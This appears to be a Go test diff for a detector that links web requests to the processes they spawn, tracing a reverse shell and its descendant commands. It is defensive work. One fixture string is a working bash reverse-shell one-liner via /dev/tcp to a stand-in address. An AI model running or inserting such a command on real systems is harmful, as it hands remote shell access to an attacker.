@@ -370,3 +370,61 @@ func TestActiveShellKeepsItsLink(t *testing.T) {
 		t.Errorf("a child ten reorder windows after the last: linked %+v", l)
 	}
 }
+
+// A reverse shell's commands run before its request is logged (nginx
+// writes it when the shell ends): when the request links the shell, its
+// descendants seen so far are linked too, as its later ones are.
+func TestLongShellLinksItsEarlierKids(t *testing.T) {
+	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
+	c := New(Options{})
+	c.AddProcess("h", Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: "sh -c " + cmd, WebNames: []string{"php-fpm8.2"}})
+	for i, at := range []time.Duration{time.Second, 20 * time.Second, 50 * time.Second} {
+		if _, ok := c.AddProcess("h", Process{Ref: int64(11 + i), Time: t0.Add(at), ID: fmt.Sprint("k", i), Shell: "a", CommandLine: "whoami"}); ok {
+			t.Fatalf("a descendant of an unlinked shell was linked")
+		}
+	}
+	c.AddProcess("h", Process{Ref: 99, Time: t0.Add(time.Minute), ID: "z", Shell: "z", CommandLine: "sh -c uptime"})
+	links := c.AddRequest("h", Request{Ref: 1, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"})
+	got := map[int64][]string{}
+	for _, l := range links {
+		if l.Request != 1 {
+			t.Errorf("link to request %d", l.Request)
+		}
+		got[l.Process] = l.Evidence
+	}
+	if len(got) != 4 || !slices.Contains(got[10], "long_running") {
+		t.Fatalf("links %+v, want the shell (long_running) and its three descendants", links)
+	}
+	for _, kid := range []int64{11, 12, 13} {
+		if !slices.Equal(got[kid], []string{"parent_linked"}) {
+			t.Errorf("descendant %d: evidence %v, want [parent_linked]", kid, got[kid])
+		}
+	}
+	// Linked once: another request with the command takes nothing.
+	if again := c.AddRequest("h", Request{Ref: 2, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}); len(again) != 0 {
+		t.Errorf("a second request: %+v", again)
+	}
+}
+
+// The descendants noted are bounded: maxKids per shell, MaxPending shells.
+func TestKidsBounded(t *testing.T) {
+	c := New(Options{MaxPending: 5})
+	for s := range 10 {
+		for k := range 2 * maxKids {
+			c.AddProcess("h", Process{Ref: int64(1000*s + k), Time: t0, ID: fmt.Sprint(s, "-", k), Shell: fmt.Sprint(s), CommandLine: "id"})
+		}
+	}
+	h := c.hosts["h"]
+	if len(h.kids) != 5 {
+		t.Errorf("%d shells noted, want 5", len(h.kids))
+	}
+	for s, k := range h.kids {
+		if len(k.refs) != maxKids {
+			t.Errorf("shell %s: %d descendants, want %d", s, len(k.refs), maxKids)
+		}
+	}
+	c.AddProcess("h", Process{Ref: 1, Time: t0.Add(c.opt.LongRequest + time.Second), ID: "x", Shell: "x", CommandLine: "sh -c id"})
+	if len(h.kids) != 0 {
+		t.Errorf("%d shells noted after LongRequest, want 0", len(h.kids))
+	}
+}
